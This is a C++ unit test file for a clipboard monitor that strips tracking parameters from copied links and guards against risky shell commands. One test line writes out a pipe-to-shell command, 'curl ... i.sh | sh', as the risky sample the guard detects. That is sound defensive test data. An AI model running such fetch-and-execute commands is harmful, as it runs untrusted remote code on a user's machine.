#include "ScourletCore/clipboard/ClipboardMonitor.h"

#include <gtest/gtest.h>

#include "clipboard/ClipboardMonitorFixture.h"
#include "support/ChangingPasteboard.h"
#include "support/OversizedPasteboard.h"
#include "support/PunctuationAfterLinks.h"
#include "support/SlowPasteboard.h"

namespace scourlet {
namespace {

using testing::ClipboardMonitorTest;
using testing::InMemoryPasteboard;
using testing::kRiskyCommand;

constexpr std::string_view kTracked = "https://news.example/a?id=7&utm_source=x";
constexpr std::string_view kClean = "https://news.example/a?id=7";

std::string repeated(char c, std::size_t n) {
    return std::string(n, c);
}

// --- Watching, own writes and the road of one link ------------------------------

TEST_F(ClipboardMonitorTest, PollsOnlyWhileStartedAndWatchesTheClipboardMeanwhile) {
    monitor().start();
    monitor().start();  // a second start keeps the one timer
    EXPECT_EQ(timers->intervals(), std::vector{ClipboardMonitor::pollInterval});
    EXPECT_TRUE(pasteboard->backendWatching());

    pasteboard->copy(std::string(kTracked));
    timers->advance(std::chrono::milliseconds(499));
    EXPECT_TRUE(pasteboard->writes().empty());
    timers->advance(std::chrono::milliseconds(1));
    EXPECT_EQ(pasteboard->text(), kClean);

    monitor().stop();
    EXPECT_EQ(timers->activeTimerCount(), 0u);
    EXPECT_FALSE(pasteboard->backendWatching());
    pasteboard->copy(std::string(kTracked));
    timers->advance(std::chrono::seconds(2));
    EXPECT_EQ(pasteboard->text(), kTracked);
}

TEST_F(ClipboardMonitorTest, OwnWriteIsNotHandledAgainButTheSameCopyLaterIs) {
    copyAndPoll(std::string(kTracked));
    ASSERT_EQ(pasteboard->writes(), std::vector<std::string>{std::string(kClean)});
    EXPECT_EQ(monitor().cleanedCountToday(), 1);

    monitor().poll();  // sees its own write
    monitor().poll();  // nothing new at all
    EXPECT_EQ(pasteboard->writes().size(), 1u);
    EXPECT_EQ(monitor().cleanedCountToday(), 1);

    copyAndPoll(std::string(kTracked));
    EXPECT_EQ(pasteboard->writes().size(), 2u);
    EXPECT_EQ(monitor().cleanedCountToday(), 2);
}

TEST_F(ClipboardMonitorTest, CleanIsRecordedEverywhere) {
    copyAndPoll(std::string(kTracked));

    ASSERT_TRUE(monitor().lastCleanedResult());
    EXPECT_EQ(monitor().lastCleanedResult()->cleanedURL, kClean);
    EXPECT_EQ(storedCountToday(), 1);
    EXPECT_EQ(defaults->integerForKey("cleanedCount_2026-03-07"), 1);
    const auto stored = defaults->dataForKey(ClipboardMonitor::lastCleanedResultKey);
    ASSERT_TRUE(stored);
    auto decoded = CleanResult::decode(std::string(stored->begin(), stored->end()));
    ASSERT_TRUE(decoded);
    EXPECT_EQ(*decoded, *monitor().lastCleanedResult());
    EXPECT_EQ(stats->totalCleaned(), 1);
    EXPECT_EQ(cleanNotifications(), 1u);
    ASSERT_TRUE(recorder->current());
    EXPECT_EQ(recorder->current()->surface, "macOSClipboard");
}

TEST_F(ClipboardMonitorTest, LinkInsideProseIsReplacedAndEverythingAroundItKept) {
    const std::string prose = "Read this (" + std::string(kTracked) + "), it's \"good\".\n";
    copyAndPoll(prose);
    EXPECT_EQ(pasteboard->text(), "Read this (" + std::string(kClean) + "), it's \"good\".\n");
}

// Punctuation right after a link belongs to the user's sentence: when the
// link's last parameter goes, the punctuation stays, alone or in a block.
TEST_F(ClipboardMonitorTest, PunctuationAfterALinkSurvivesItsClean) {
    for (const auto& [copied, expected] : testing::kPunctuationAfterLinks) {
        copyAndPoll(std::string(copied));
        EXPECT_EQ(pasteboard->text(), expected) << copied;
        const std::string block = std::string(copied) + "\n" + std::string(copied) + "\n";
        copyAndPoll(block);
        EXPECT_EQ(pasteboard->text(), std::string(expected) + "\n" + std::string(expected) + "\n")
            << copied;
    }
}

TEST_F(ClipboardMonitorTest, NothingHappensToTextWithoutLinksOrWithCleanLinks) {
    for (const char* text :
         {"just words", "https://news.example/a?id=7", "ftp://x.example/?utm_source=1"}) {
        copyAndPoll(text);
        EXPECT_TRUE(pasteboard->writes().empty()) << text;
    }
    EXPECT_EQ(monitor().cleanedCountToday(), 0);
    EXPECT_FALSE(monitor().lastCleanedResult());
}

TEST_F(ClipboardMonitorTest, PlainTextThatHoldsTheURLFormIsChosen) {
    pasteboard->setItems({{"see " + std::string(kTracked), std::string(kTracked)}});
    monitor().poll();
    EXPECT_EQ(pasteboard->text(), "see " + std::string(kClean));
    // Only a plain string is written back: the URL form is gone.
    const InMemoryPasteboard::Item written{"see " + std::string(kClean), std::nullopt};
    EXPECT_EQ(pasteboard->items(), std::vector{written});
}

// --- Several links ---------------------------------------------------------------

TEST_F(ClipboardMonitorTest, TwoTrackedLinksAndAPlainOneAreCleanedTogether) {
    copyAndPoll(
        "1. https://news.example/a?ref_src=tw\n2. https://other.example/x\n"
        "3. https://news.example/b?utm_medium=m&id=2\n");
    EXPECT_EQ(pasteboard->text(),
              "1. https://news.example/a\n2. https://other.example/x\n"
              "3. https://news.example/b?id=2\n");
    EXPECT_EQ(monitor().cleanedCountToday(), 2);
    EXPECT_EQ(stats->totalCleaned(), 2);
    ASSERT_TRUE(recorder->current());
    EXPECT_EQ(recorder->current()->surface, "macOSTextBlock");
    EXPECT_EQ(recorder->current()->originalURL, "https://news.example/a?ref_src=tw");
    EXPECT_EQ(monitor().lastCleanedResult()->cleanedURL, "https://news.example/b?id=2");
}

TEST_F(ClipboardMonitorTest, BlockOfCleanLinksIsNeitherWrittenNorCounted) {
    copyAndPoll("https://a.example/ and https://b.example/");
    EXPECT_TRUE(pasteboard->writes().empty());
    EXPECT_EQ(monitor().cleanedCountToday(), 0);
    // Copying the text again is not written either; the block is remembered.
    monitor().cleanNow();
    EXPECT_TRUE(pasteboard->writes().empty());
}

// --- Domain exceptions -----------------------------------------------------------

TEST_F(ClipboardMonitorTest, ExceptedSiteIsLeftAloneAndNamed) {
    exceptions->disable("news.example");
    copyAndPoll("https://www.news.example/a?utm_source=x");
    EXPECT_TRUE(pasteboard->writes().empty());
    EXPECT_EQ(monitor().lastSkippedDomain(), "news.example");
    EXPECT_EQ(cleanNotifications(), 0u);

    // The next clean of another site clears the name.
    copyAndPoll("https://other.example/?utm_source=1");
    EXPECT_EQ(monitor().lastSkippedDomain(), std::nullopt);
}

TEST_F(ClipboardMonitorTest, ExceptedLinksOfABlockStayAsCopiedAndTheFirstHostIsNamed) {
    exceptions->disable("news.example");
    exceptions->disable("shop.example");
    copyAndPoll(
        "https://shop.example/?utm_source=a https://x.example/?utm_source=b "
        "https://news.example/?utm_source=c");
    EXPECT_EQ(pasteboard->text(),
              "https://shop.example/?utm_source=a https://x.example/ "
              "https://news.example/?utm_source=c");
    EXPECT_EQ(monitor().lastSkippedDomain(), "shop.example");
    EXPECT_EQ(monitor().cleanedCountToday(), 1);
}

// --- Command Guard ---------------------------------------------------------------

TEST_F(ClipboardMonitorTest, RiskyCommandIsWarnedAboutAndNotCleaned) {
    copyAndPoll(std::string(kRiskyCommand));
    EXPECT_TRUE(pasteboard->writes().empty());
    ASSERT_TRUE(monitor().lastCommandRisk());
    EXPECT_EQ(monitor().lastCommandRisk()->severity, CommandRiskSeverity::danger);
    const auto stored = defaults->dataForKey(ClipboardMonitor::lastCommandRiskKey);
    ASSERT_TRUE(stored);
    EXPECT_EQ(CommandRiskResult::decode(std::string(stored->begin(), stored->end())).value(),
              *monitor().lastCommandRisk());
    EXPECT_EQ(stats->totalCommandWarnings(), 1);
    EXPECT_EQ(stats->neutralizedCommands(), 0);
    ASSERT_EQ(poster->posted().size(), 1u);
    EXPECT_EQ(poster->posted()[0].title, NotificationManager::kCommandCopiedTitle);

    copyAndPoll("nothing risky");
    EXPECT_FALSE(monitor().lastCommandRisk());
    EXPECT_FALSE(defaults->contains(ClipboardMonitor::lastCommandRiskKey));
}

TEST_F(ClipboardMonitorTest, NeutralizingReplacesTheCommandAndLeavesNoWarning) {
    monitor().setShouldNeutralizeRiskyCommands(true);
    copyAndPoll(std::string(kRiskyCommand));
    EXPECT_EQ(pasteboard->text(), CommandGuard::neutralizedCommand(kRiskyCommand));
    EXPECT_FALSE(monitor().lastCommandRisk());
    EXPECT_EQ(stats->neutralizedCommands(), 1);
    EXPECT_EQ(poster->posted().back().title, NotificationManager::kCommandNeutralizedTitle);
    // The shipped finding's summary, then the note as a sentence of its own.
    const std::string body = poster->posted().back().body;
    EXPECT_TRUE(body.ends_with(". Clipboard replaced with commented text.")) << body;
    EXPECT_EQ(body.find(".."), std::string::npos) << body;

    monitor().poll();  // its own write
    EXPECT_EQ(pasteboard->writes().size(), 1u);
    EXPECT_EQ(stats->totalCommandWarnings(), 1);
}

TEST_F(ClipboardMonitorTest, GuardThresholdAndSwitch) {
    // Below the threshold: handled like any text.
    copyAndPoll("ls -la https://news.example/?utm_source=x");
    EXPECT_FALSE(monitor().lastCommandRisk());
    EXPECT_EQ(pasteboard->text(), "ls -la https://news.example/");

    monitor().setCommandGuardThreshold(CommandRiskSeverity::info);
    copyAndPoll("ls -la https://news.example/?utm_source=x");
    EXPECT_TRUE(monitor().lastCommandRisk());

    // Switched off: the command is cleaned like any text, and the standing
    // warning still goes with the new copy.
    monitor().setIsCommandGuardEnabled(false);
    copyAndPoll(std::string(kRiskyCommand));
    EXPECT_FALSE(monitor().lastCommandRisk());
    EXPECT_EQ(pasteboard->text(), "curl https://news.example/i.sh | sh");
}

// --- Cleaning off, clean now -----------------------------------------------------

TEST_F(ClipboardMonitorTest, CleaningOffStillGuardsAndCleanNowStillCleans) {
    monitor().setIsEnabled(false);
    copyAndPoll(std::string(kTracked));
    EXPECT_TRUE(pasteboard->writes().empty());

    copyAndPoll(std::string(kRiskyCommand));
    EXPECT_TRUE(monitor().lastCommandRisk());

    pasteboard->copy(std::string(kTracked));
    monitor().cleanNow();
    EXPECT_EQ(pasteboard->text(), kClean);
    // cleanNow() does not withdraw a standing warning.
    EXPECT_TRUE(monitor().lastCommandRisk());
}

// --- Limits on what is read ------------------------------------------------------

TEST_F(ClipboardMonitorTest, StringsUpTo65536BytesAreHandledLongerOnesIgnoreTheClipboard) {
    const std::string link(kTracked);
    const std::string atLimit = link + " " + repeated('a', 65536 - link.size() - 1);
    ASSERT_EQ(atLimit.size(), 65536u);
    copyAndPoll(atLimit);
    EXPECT_EQ(pasteboard->text(),
              std::string(kClean) + " " + repeated('a', 65536 - link.size() - 1));

    copyAndPoll(std::string(kRiskyCommand));
    ASSERT_TRUE(monitor().lastCommandRisk());
    const std::size_t writes = pasteboard->writes().size();
    // One byte more, in either form of the item: nothing is read, guarded or cleaned.
    for (const InMemoryPasteboard::Item& item : std::vector<InMemoryPasteboard::Item>{
             {atLimit + "a", std::nullopt},
             {link, "https://news.example/?q=" + repeated('b', 65536)},
         }) {
        pasteboard->setItems({item});
        monitor().poll();
        EXPECT_EQ(pasteboard->writes().size(), writes);
        EXPECT_TRUE(monitor().lastCommandRisk()) << "an ignored clipboard keeps the warning";
    }
}

TEST_F(ClipboardMonitorTest, ClipboardThatHandsOverMegabytesRegardlessIsIgnored) {
    auto board = std::make_shared<testing::OversizedPasteboard>();
    auto watcher = makeMonitor(board);
    board->copy(std::string(kRiskyCommand));
    watcher->poll();
    ASSERT_TRUE(watcher->lastCommandRisk());

    board->copy(std::string(kTracked) + " " + repeated('z', 4 << 20));
    watcher->poll();
    EXPECT_TRUE(board->writes().empty());
    EXPECT_TRUE(watcher->lastCommandRisk()) << "the text was never looked at";
}

TEST_F(ClipboardMonitorTest, ClipboardWithTooManyItemsIsIgnored) {
    std::vector<InMemoryPasteboard::Item> items(ClipboardMonitor::maximumItems + 1,
                                                {std::string(kTracked), std::nullopt});
    pasteboard->setItems(items);
    monitor().poll();
    EXPECT_TRUE(pasteboard->writes().empty());
    EXPECT_EQ(pasteboard->readCount(), 0u);

    items.pop_back();
    pasteboard->setItems(items);  // the same form many times over is one form
    monitor().poll();
    EXPECT_EQ(pasteboard->text(), kClean);
}

TEST_F(ClipboardMonitorTest, ContentsThatChangeDuringTheReadAreNotWrittenOver) {
    auto board = std::make_shared<testing::ChangingPasteboard>();
    auto watcher = makeMonitor(board);
    board->copy(std::string(kTracked));
    board->changeDuringNextRead("https://news.example/new?fbclid=1");
    watcher->poll();
    // The stale text was not cleaned over the newer contents...
    EXPECT_TRUE(board->writes().empty());
    EXPECT_EQ(board->text(), "https://news.example/new?fbclid=1");
    // ...which the next tick handles.
    watcher->poll();
    EXPECT_EQ(board->text(), "https://news.example/new");
}

TEST_F(ClipboardMonitorTest, SlowClipboardIsGivenUpOnAtTheDeadline) {
    auto board =
        std::make_shared<testing::SlowPasteboard>(*monotonic, std::chrono::milliseconds(200));
    auto watcher = makeMonitor(board);
    const std::size_t readsAtStart = board->readCount();
    board->setItems(
        std::vector<InMemoryPasteboard::Item>(10, {std::string(kTracked), std::string(kTracked)}));
    watcher->poll();
    // 500 ms allow three reads of 200 ms to begin; then the read is abandoned.
    EXPECT_EQ(board->readCount() - readsAtStart, 3u);
    EXPECT_TRUE(board->writes().empty());
}

// A read given up at the deadline leaves the change unhandled: the next tick
// reads it again, a few times, and then leaves it alone.
TEST_F(ClipboardMonitorTest, SlowClipboardIsReadAgainByTheNextTicks) {
    auto board =
        std::make_shared<testing::SlowPasteboard>(*monotonic, std::chrono::milliseconds(600));
    auto watcher = makeMonitor(board);
    board->copy(std::string(kTracked));
    watcher->poll();
    EXPECT_TRUE(board->writes().empty());
    board->setDelay(std::chrono::milliseconds(0));
    watcher->poll();
    EXPECT_EQ(board->text(), kClean);
    EXPECT_EQ(watcher->cleanedCountToday(), 1);

    board->setDelay(std::chrono::milliseconds(600));
    board->copy(std::string(kTracked));
    const std::size_t readsBefore = board->readCount();
    for (int tick = 0; tick < ClipboardMonitor::maximumReadAttempts + 2; ++tick) {
        watcher->poll();
    }
    EXPECT_EQ(board->readCount() - readsBefore,
              static_cast<std::size_t>(ClipboardMonitor::maximumReadAttempts));
    EXPECT_EQ(board->text(), kTracked);
    // "Clean Now" still reads it on request.
    board->setDelay(std::chrono::milliseconds(0));
    watcher->cleanNow();
    EXPECT_EQ(board->text(), kClean);
}

TEST_F(ClipboardMonitorTest, FailedReadIsIgnored) {
    for (auto error : {Pasteboard::ReadError::timedOut, Pasteboard::ReadError::unavailable,
                       Pasteboard::ReadError::tooLarge}) {
        pasteboard->failReadsWith(error);
        copyAndPoll(std::string(kTracked));
        EXPECT_TRUE(pasteboard->writes().empty());
    }
}

// --- Restore and disable for a site ----------------------------------------------

TEST_F(ClipboardMonitorTest, RestorePutsTheWholeCopiedTextBack) {
    struct Case {
        const char* name;
        std::string copied;
    };
    for (const Case& c : {
             Case{"link in prose", "see " + std::string(kTracked) + " now"},
             Case{"text block",
                  "https://news.example/?ref_src=1 https://news.example/?utm_source=2"},
         }) {
        copyAndPoll(c.copied);
        ASSERT_NE(pasteboard->text(), c.copied) << c.name;
        EXPECT_TRUE(monitor().restoreLastOriginal()) << c.name;
        EXPECT_EQ(pasteboard->text(), c.copied) << c.name;
        EXPECT_FALSE(monitor().lastCleanedResult()) << c.name;
        EXPECT_FALSE(defaults->contains(ClipboardMonitor::lastCleanedResultKey)) << c.name;
        EXPECT_FALSE(monitor().restoreLastOriginal()) << c.name << ": the record was taken";

        // The restored text is the monitor's own write: not cleaned again.
        monitor().poll();
        EXPECT_EQ(pasteboard->text(), c.copied) << c.name;
    }
    EXPECT_EQ(monitor().cleanedCountToday(), 3) << "restoring keeps the cleans counted";
}

TEST_F(ClipboardMonitorTest, RestoreOfAnotherLinksRecordWritesThatLinkAlone) {
    copyAndPoll("see " + std::string(kTracked));
    recorder->record("https://elsewhere.example/?utm_source=9", "https://elsewhere.example/",
                     "macOSSafariExtension");
    EXPECT_TRUE(monitor().restoreLastOriginal());
    EXPECT_EQ(pasteboard->text(), "https://elsewhere.example/?utm_source=9");
}

TEST_F(ClipboardMonitorTest, DisableLastDomainExceptsTheSiteOnce) {
    EXPECT_EQ(monitor().disableLastDomain(), std::nullopt);
    copyAndPoll("https://www.News.example/a?utm_source=x");
    const std::string written = *pasteboard->text();

    EXPECT_EQ(monitor().disableLastDomain(), "news.example");
    EXPECT_TRUE(exceptions->isDisabled("news.example"));
    EXPECT_FALSE(recorder->current());
    EXPECT_EQ(monitor().disableLastDomain(), std::nullopt);
    EXPECT_EQ(pasteboard->text(), written);
    EXPECT_TRUE(monitor().lastCleanedResult());

    copyAndPoll(std::string(kTracked));
    EXPECT_EQ(pasteboard->text(), kTracked);
}

TEST_F(ClipboardMonitorTest, CopiesFromTheInterfaceAreNeitherCleanedNorGuardedNorCounted) {
    copyAndPoll(std::string(kTracked));
    const CleanResult last = *monitor().lastCleanedResult();

    // "Copy original": the tracked link survives the next poll, uncounted.
    monitor().writeUserCopy(last.originalURL);
    monitor().poll();
    EXPECT_EQ(pasteboard->text(), kTracked);
    EXPECT_EQ(monitor().cleanedCountToday(), 1);
    EXPECT_EQ(stats->totalCleaned(), 1);
    EXPECT_EQ(cleanNotifications(), 1u);
    EXPECT_EQ(monitor().lastCleanedResult(), last);

    // A risky command copied from the interface stays as it is, unwarned.
    monitor().setShouldNeutralizeRiskyCommands(true);
    monitor().writeUserCopy(kRiskyCommand);
    monitor().poll();
    EXPECT_EQ(pasteboard->text(), kRiskyCommand);
    EXPECT_EQ(stats->totalCommandWarnings(), 0);
    EXPECT_EQ(stats->neutralizedCommands(), 0);

    // The same text copied by the user afterwards is handled as usual.
    copyAndPoll(std::string(kRiskyCommand));
    EXPECT_EQ(pasteboard->text(), CommandGuard::neutralizedCommand(kRiskyCommand));
}

// --- Start-up state, settings and the other actions -------------------------------

TEST_F(ClipboardMonitorTest, StoredSettingsAreReadWithTheirDefaults) {
    {
        auto fresh = makeMonitor();
        EXPECT_TRUE(fresh->isCommandGuardEnabled());
        EXPECT_EQ(fresh->commandGuardThreshold(), CommandRiskSeverity::warning);
        EXPECT_FALSE(fresh->shouldNeutralizeRiskyCommands());
        EXPECT_FALSE(fresh->automaticShareLinkResolutionEnabled());
        EXPECT_TRUE(fresh->isEnabled());
        EXPECT_FALSE(defaults->contains(ClipboardMonitor::commandGuardEnabledKey))
            << "reading does not write back";
    }
    defaults->setString(ClipboardMonitor::commandGuardThresholdKey, "critical");
    EXPECT_EQ(makeMonitor()->commandGuardThreshold(), CommandRiskSeverity::warning);

    auto monitor = makeMonitor();
    monitor->setIsCommandGuardEnabled(false);
    monitor->setCommandGuardThreshold(CommandRiskSeverity::danger);
    monitor->setShouldNeutralizeRiskyCommands(true);
    monitor->setAutomaticShareLinkResolutionEnabled(true);
    EXPECT_EQ(defaults->stringForKey(ClipboardMonitor::commandGuardThresholdKey), "danger");
    auto again = makeMonitor();
    EXPECT_FALSE(again->isCommandGuardEnabled());
    EXPECT_EQ(again->commandGuardThreshold(), CommandRiskSeverity::danger);
    EXPECT_TRUE(again->shouldNeutralizeRiskyCommands());
    EXPECT_TRUE(again->automaticShareLinkResolutionEnabled());
}

TEST_F(ClipboardMonitorTest, StoredRiskSurvivesAStartOnlyWhileTheClipboardHoldsIt) {
    copyAndPoll(std::string(kRiskyCommand));
    ASSERT_TRUE(defaults->contains(ClipboardMonitor::lastCommandRiskKey));

    EXPECT_TRUE(makeMonitor()->lastCommandRisk());
    pasteboard->copy("harmless");
    EXPECT_FALSE(makeMonitor()->lastCommandRisk());
    EXPECT_FALSE(defaults->contains(ClipboardMonitor::lastCommandRiskKey));
}

TEST_F(ClipboardMonitorTest, StoredLastResultIsReadBackAndUnreadableDataIgnored) {
    copyAndPoll(std::string(kTracked));
    EXPECT_EQ(makeMonitor()->lastCleanedResult(), monitor().lastCleanedResult());
    EXPECT_EQ(makeMonitor()->cleanedCountToday(), 1);

    defaults->setData(ClipboardMonitor::lastCleanedResultKey, DefaultsData{'{', 'x'});
    EXPECT_FALSE(makeMonitor()->lastCleanedResult());
    EXPECT_TRUE(defaults->contains(ClipboardMonitor::lastCleanedResultKey));
}

TEST_F(ClipboardMonitorTest, OnlyLocalFunctionalTransformationsAreAddedToTheLastResult) {
    const CleanOperation conversion{CleanOperationKind::functionalTransformation,
                                    "https://maps.example/a",
                                    "https://maps.example/b",
                                    {},
                                    false};
    monitor().recordFunctionalTransformation(conversion);
    EXPECT_FALSE(monitor().lastCleanedResult()) << "no result to add to";

    copyAndPoll(std::string(kTracked));
    const CleanResult before = *monitor().lastCleanedResult();
    CleanOperation withNetwork = conversion;
    withNetwork.networkUsed = true;
    CleanOperation otherKind = conversion;
    otherKind.kind = CleanOperationKind::offlinePathRewrite;
    for (const CleanOperation& ignored : {withNetwork, otherKind}) {
        monitor().recordFunctionalTransformation(ignored);
        EXPECT_EQ(monitor().lastCleanedResult(), before);
    }

    monitor().recordFunctionalTransformation(conversion);
    ASSERT_EQ(monitor().lastCleanedResult()->operations.size(), before.operations.size() + 1);
    EXPECT_EQ(monitor().lastCleanedResult()->operations.back(), conversion);
    EXPECT_EQ(makeMonitor()->lastCleanedResult(), monitor().lastCleanedResult());
    EXPECT_EQ(monitor().cleanedCountToday(), 1);
}

TEST_F(ClipboardMonitorTest, ReloadPutsANewGuardInPlace) {
    const auto first = monitor().commandGuard();
    monitor().reloadCommandGuard();
    EXPECT_NE(monitor().commandGuard(), first);
    EXPECT_EQ(monitor().commandGuard()->rulesVersion(), "test-1");
}

// --- Today's count follows the calendar -------------------------------------------

TEST_F(ClipboardMonitorTest, TodaysCountMovesToTheNewDayAtMidnight) {
    clock->set(std::chrono::sys_days(std::chrono::year(2026) / 3 / 7) + std::chrono::hours(23) +
               std::chrono::minutes(59));
    copyAndPoll(std::string(kTracked));
    copyAndPoll(std::string(kTracked));
    ASSERT_EQ(monitor().cleanedCountToday(), 2);

    // After midnight a tick shows the new day's count (none yet)...
    clock->advance(std::chrono::minutes(2));
    monitor().poll();
    EXPECT_EQ(monitor().cleanedCountToday(), 0);
    // ...and the first clean of the day counts 1 under the new day's key.
    copyAndPoll(std::string(kTracked));
    EXPECT_EQ(monitor().cleanedCountToday(), 1);
    EXPECT_EQ(defaults->integerForKey("cleanedCount_2026-03-08"), 1);
    EXPECT_EQ(defaults->integerForKey("cleanedCount_2026-03-07"), 2);
}

TEST_F(ClipboardMonitorTest, FirstCleanOfANewDayWithoutATickStartsFromThatDaysStoredCount) {
    copyAndPoll(std::string(kTracked));
    defaults->setInteger("cleanedCount_2026-03-08", 5);  // counted by an earlier run that day
    clock->advance(std::chrono::hours(24));
    pasteboard->copy(std::string(kTracked));
    monitor().cleanNow();
    EXPECT_EQ(monitor().cleanedCountToday(), 6);
    EXPECT_EQ(defaults->integerForKey("cleanedCount_2026-03-08"), 6);
    EXPECT_EQ(defaults->integerForKey("cleanedCount_2026-03-07"), 1);
}

TEST_F(ClipboardMonitorTest, ResetForgetsEveryDaysCountAndCountingStartsAgain) {
    copyAndPoll(std::string(kTracked));
    clock->advance(std::chrono::hours(24));
    copyAndPoll(std::string(kTracked));
    copyAndPoll(std::string(kTracked));
    monitor().setIsCommandGuardEnabled(false);
    ASSERT_EQ(monitor().cleanedCountToday(), 2);

    monitor().resetDailyCleanCounts();
    EXPECT_EQ(monitor().cleanedCountToday(), 0);
    for (const auto& [key, value] : defaults->dictionaryRepresentation()) {
        EXPECT_FALSE(key.starts_with(ClipboardMonitor::dailyCountKeyPrefix)) << key;
    }
    // Other settings of the monitor stay; a restart reads no count either.
    EXPECT_FALSE(makeMonitor()->isCommandGuardEnabled());
    EXPECT_EQ(makeMonitor()->cleanedCountToday(), 0);

    copyAndPoll(std::string(kTracked));
    EXPECT_EQ(monitor().cleanedCountToday(), 1);
    EXPECT_EQ(storedCountToday(), 1);
}

TEST_F(ClipboardMonitorTest, CountAtTheLargestValueStaysThere) {
    defaults->setInteger("cleanedCount_2026-03-07", std::numeric_limits<std::int64_t>::max());
    auto counting = makeMonitor();
    pasteboard->copy(std::string(kTracked));
    counting->poll();
    EXPECT_EQ(counting->cleanedCountToday(), std::numeric_limits<std::int64_t>::max());
}

}  // namespace
}  // namespace scourlet
